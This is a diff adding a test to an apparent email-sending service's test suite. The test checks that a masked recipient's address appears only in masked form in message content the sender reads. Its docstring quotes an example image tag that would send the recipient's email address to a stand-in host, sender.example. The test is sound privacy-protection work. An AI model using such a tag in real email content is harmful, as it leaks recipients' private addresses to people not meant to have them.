@@ -411,6 +411,25 @@ def test_foreign_messages_are_dropped(stage: Stage) -> None:
     assert stage.deliver(json.dumps({"type": "PlanSend", "send_plan_id": str(uuid4())})) == []
 
 
+def test_a_masked_recipients_address_is_in_no_place_that_the_sender_reads(stage: Stage) -> None:
+    """`<img src="https://sender.example/?{{ email }}">` would tell it to whoever must not have it."""
+    open_plan, masked = stage.ledger.plan(1), stage.ledger.plan(1)
+    content = "<p>{{ email }} {{ name }} {{ unsubscribe_url }}</p>"
+    stage.ledger.query("update send_plans set prepared_html = %s, prepared_text = %s", content, content)
+    stage.ledger.query(
+        "update send_plans set recipients_masked = true where send_plan_id = %s", masked.send_plan_id
+    )
+    stage.ledger.query("update email_sends set recipient_name = 'Ann'")
+    stage.wake(open_plan)
+    stage.wake(masked)
+    shown = [(m.recipient.address, "1@example.com" in m.html + m.text) for m in stage.transport.messages]
+    assert sorted(shown) == [("1@example.com", False), ("1@example.com", True)]
+    (hidden,) = [m for m in stage.transport.messages if "1@example.com" not in m.html]
+    assert "1***@e***.com" in hidden.html
+    assert "1***@e***.com" in hidden.text
+    assert "Ann" in hidden.html, "the greeting stays"
+
+
 def sample(ledger: Ledger, content: str = "<p>Hello</p>") -> str:
     """The message about a sample of a draft, whose sender is verified."""
     plan = ledger.plan(1)
